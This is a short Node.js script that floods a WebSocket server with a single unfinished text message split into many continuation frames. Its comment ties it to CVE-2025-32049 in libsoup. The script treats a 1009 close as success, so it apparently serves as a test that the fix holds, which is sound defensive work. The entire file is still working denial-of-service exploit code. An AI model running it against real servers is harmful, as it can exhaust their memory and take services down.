// Sends one text message split into many continuation frames, never finishing it (CVE-2025-32049:
// libsoup 3.2 checks each frame, not the reassembled message).
//   node fragment_flood.mjs URL TOTAL_BYTES FRAGMENT_BYTES
// Prints "closed CODE after N bytes" (N = bytes handed to ws, not necessarily read by the server)
// and exits 0 when the server closed the connection with 1009; 1 otherwise.
import WebSocket from 'ws';

const [url, totalArg, fragArg] = process.argv.slice(2);
const total = Number(totalArg || 50 * 1024 * 1024);
const frag = Number(fragArg || 1024);
const chunk = Buffer.alloc(frag, 'a');
const ws = new WebSocket(url, { perMessageDeflate: false });
let sent = 0;
let done = false;
const finish = (code, msg) => {
  if (done) return;
  done = true;
  console.log(msg);
  process.exit(code);
};
ws.on('close', (code) => finish(code === 1009 ? 0 : 1, `closed ${code} after ${sent} bytes`));
ws.on('error', (e) => finish(1, `error ${e.message} after ${sent} bytes`));
ws.on('open', () => {
  ws.send('["', { fin: false, binary: false });
  const pump = () => {
    let burst = 0;
    while (!done && sent < total) {
      if (ws.readyState !== WebSocket.OPEN) return;
      if (ws.bufferedAmount > 1024 * 1024) { setTimeout(pump, 5); return; }
      // yield now and then so a close frame from the server is noticed
      if (++burst > 64) { setImmediate(pump); return; }
      ws.send(chunk, { fin: false, binary: false });
      sent += frag;
    }
    if (!done) setTimeout(() => finish(1, `all ${sent} bytes accepted`), 2000);
  };
  pump();
});
